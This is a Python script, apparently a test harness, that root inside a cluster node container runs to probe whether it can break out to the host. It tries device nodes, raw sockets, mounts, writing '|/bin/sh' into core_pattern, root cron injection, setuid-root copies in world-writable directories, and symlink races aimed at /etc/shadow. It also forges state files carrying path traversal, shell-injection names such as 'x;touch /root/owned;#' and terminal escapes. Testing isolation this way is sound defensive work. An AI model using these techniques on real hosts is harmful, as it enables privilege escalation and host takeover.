"""What root in a node container can try against its host. Sent into the container on stdin.

python3 - once                 try each thing once; prints {"what": "done" or the error}
python3 - plague SECONDS WHAT  spoil the shared directories: WHAT is `beside` (names that the
                               supervisor does not use) or `all`
"""

import contextlib
import ctypes
import itertools
import json
import os
import shutil
import socket
import stat
import struct
import sys
import time
from pathlib import Path
from typing import Callable, Dict

LOGS, RUN, CACHE = (
    Path("/var/log/clusterctl/lab"),
    Path("/run/clusterctl/lab"),
    Path("/var/lib/clusterctl/caches/lab"),
)
VICTIMS = ("/etc/shadow", "/root/canary", "/root/new", "/etc/cron.d/attack", "/dev/zero")
CRON = "* * * * * root touch /root/owned\n"
LIBC = ctypes.CDLL(None, use_errno=True)


def called(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def remounted() -> None:
    called(LIBC.mount(b"none", b"/etc/clusterctl/lab", None, 0x20 | 0x1000, None))


def run_as_another() -> None:
    os.setuid(1000)


def watching_packets() -> None:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()


def by_handle() -> None:
    handle = struct.pack("IiQ", 8, 1, 2)
    called(LIBC.open_by_handle_at(os.open("/etc/clusterctl/lab", os.O_RDONLY), handle, 0))


def given_away() -> None:
    (LOGS / "mine").touch()
    os.chown(LOGS / "mine", 1000, 1000)


def written(path: str, text: str = CRON) -> Callable[[], object]:
    def write() -> None:
        Path(path).write_text(text)

    return write


ONCE: Dict[str, Callable[[], object]] = {
    "a disk": lambda: os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0)),
    "the memory": lambda: os.mknod("/tmp/mem", stat.S_IFCHR | 0o600, os.makedev(1, 1)),
    "a raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close(),
    "a packet socket": watching_packets,
    "a mount": lambda: called(LIBC.mount(b"none", b"/mnt", b"tmpfs", 0, None)),
    "a remount": remounted,
    "a user namespace": lambda: called(LIBC.unshare(0x10000000)),
    "a file by its handle": by_handle,
    "a module": lambda: called(LIBC.syscall(175, b"", 0, b"")),
    "the host's clock": lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()),
    "the host's name": lambda: socket.sethostname("owned"),
    "a chroot": lambda: os.chroot("/tmp"),
    "another user": run_as_another,
    "a file of another user": given_away,
    "sysrq": written("/proc/sysrq-trigger", "h"),
    "the core pattern": written("/proc/sys/kernel/core_pattern", "|/bin/sh"),
    "a document": written("/etc/clusterctl/lab/services/evil.json", "{}"),
    "a model": written("/data/models/evil"),
    "the supervisor": lambda: next(Path("/opt/clusterctl").glob("*/node.pyz")).write_bytes(b"x"),
    "a package": written("/var/lib/clusterctl/packages/evil.deb"),
    "an old package": written("/var/cache/clusterctl/packages/evil.deb"),
    "the lock": lambda: os.open("/run/clusterctl/lab.lock", os.O_RDWR),
    "a hard link into the logs": lambda: os.link("/etc/clusterctl/lab/api.key", LOGS / "key"),
    "the logs elsewhere": lambda: LOGS.rename(LOGS.with_name("elsewhere")),
}


def left_for_users() -> None:
    """Leave a program for users of the host that is set-user-ID to root, in directories open to
    all."""
    for place in (LOGS, RUN, CACHE):
        place.chmod(0o777)
        shutil.copy("/usr/bin/id", place / "program")
        (place / "program").chmod(0o4755)


def once() -> None:
    left_for_users()
    said: Dict[str, object] = {}
    for what, attempt in ONCE.items():
        try:
            attempt()
            said[what] = "done"
        except Exception as error:
            said[what] = str(error)
    lines = Path("/proc/self/status").read_text().splitlines()
    status = dict(line.split(":\t", 1) for line in lines)
    said["seen"] = sorted(path.name for path in Path("/var/lib/clusterctl").iterdir())
    said["capabilities"] = status["CapBnd"].strip()
    said["new privileges"] = status["NoNewPrivs"].strip()
    print(json.dumps(said))


def spoil(path: Path, kind: str) -> None:
    """Put something in the place of `path`, in one step."""
    fresh = path.with_name(f".evil-{os.getpid()}")
    with contextlib.suppress(OSError):
        fresh.unlink()
    if kind in VICTIMS:
        fresh.symlink_to(kind)
    elif kind == "pipe":
        os.mkfifo(fresh, 0o666)
    elif kind == "huge":
        with fresh.open("wb") as file:
            file.truncate(1 << 40)
    elif kind == "program":
        shutil.copy("/usr/bin/id", fresh)
        fresh.chmod(0o4755)
    elif kind == "deep":
        fresh.write_text("[" * 200_000)
    elif kind == "state":
        fresh.write_text(forged())
    else:
        fresh.write_text(kind)
    fresh.replace(path)


def evil_service(name: str, replica: int) -> str:
    """A document of a service that no command wrote. Its template is a file of the host's, by a
    link in the cache."""
    template = "/etc/clusterctl/lab/files/../../../../var/lib/clusterctl/caches/lab/d/attack"
    argv = ["vllm", "serve", "x", "--host", "x", "--port", "1", "--chat-template", template]
    document = {
        "name": name, "model": "evil", "served_name": "evil", "env": {}, "host": "10.9.9.9",
        "argv": argv,
        "port": 8100, "tensor_parallel": 1, "pipeline_parallel": 1, "gpus": 1, "fingerprint": "x",
        "replica": replica, "node_ips": ["10.77.1.1"],
    }  # fmt: skip
    return json.dumps(document)


def forged() -> str:
    """A report that names files of the host as documents that bootstrap should write again, and
    documents that no command wrote as deleted ones."""
    gone = [
        {"file": file, "why": "it was deleted", "last_good": CRON}
        for file in ("../../cron.d/attack", "services/../../../cron.d/attack", "/etc/cron.d/attack")
    ]
    gone += [
        {
            "file": f"services/{name}.json",
            "why": "it was deleted",
            "last_good": evil_service(name, n),
        }
        for name, n in (("tiny@9", -1), ("tiny@8", 8), ("evil", 1), ("tiny", 1), ("x;id", 1))
    ]
    key = {"name": "eve", "sha256": "0" * 64, "created": 1.0}
    gone.append(
        {"file": "keys.json", "why": "it was deleted", "last_good": json.dumps({"keys": [key]})}
    )
    strangers = [{"name": "x;touch /root/owned;#", "state": "ready", "since": 0.0}]
    state = {
        "host": "gpu1", "role": "head", "time": time.time(), "version": "\x1b[2J" + "9" * 5000,
        "ray": "up", "ray_since": 1e999, "ray_restarts": -1, "ray_detail": "x" * 100_000,
        "unreadable": gone, "services": strangers, "nodes": [],
    }  # fmt: skip
    return json.dumps(state)


def plague(seconds: float, what: str) -> None:
    end = time.monotonic() + seconds
    kinds = itertools.cycle(
        [*VICTIMS, "pipe", "huge", "program", "state", "deep", "null", "\xff\n" * 1000]
    )
    names = ["fabric.json", "measured.json", "evil.log", "packages", "blobs", "saved"]
    if what == "all":
        names += ["journal.jsonl", "journal.jsonl.1", "ray.log", "tiny.log", "state.json"]
    for place in (LOGS, RUN, CACHE):
        with contextlib.suppress(OSError):
            place.chmod(0o777)
    while time.monotonic() < end:
        for kind in itertools.islice(kinds, 11):
            for place, name in itertools.product((LOGS, RUN, CACHE), names):
                with contextlib.suppress(OSError):
                    spoil(place / name, kind)
            with contextlib.suppress(OSError):
                (CACHE / "d").symlink_to("/etc/cron.d")
            # Whatever root of the host may be about to rename.
            for place in (LOGS, RUN, CACHE):
                for path in place.glob("*.??????"):
                    with contextlib.suppress(OSError):
                        spoil(path, "/root/canary")
            time.sleep(0.05)


if sys.argv[1] == "once":
    once()
else:
    plague(float(sys.argv[2]), sys.argv[3])
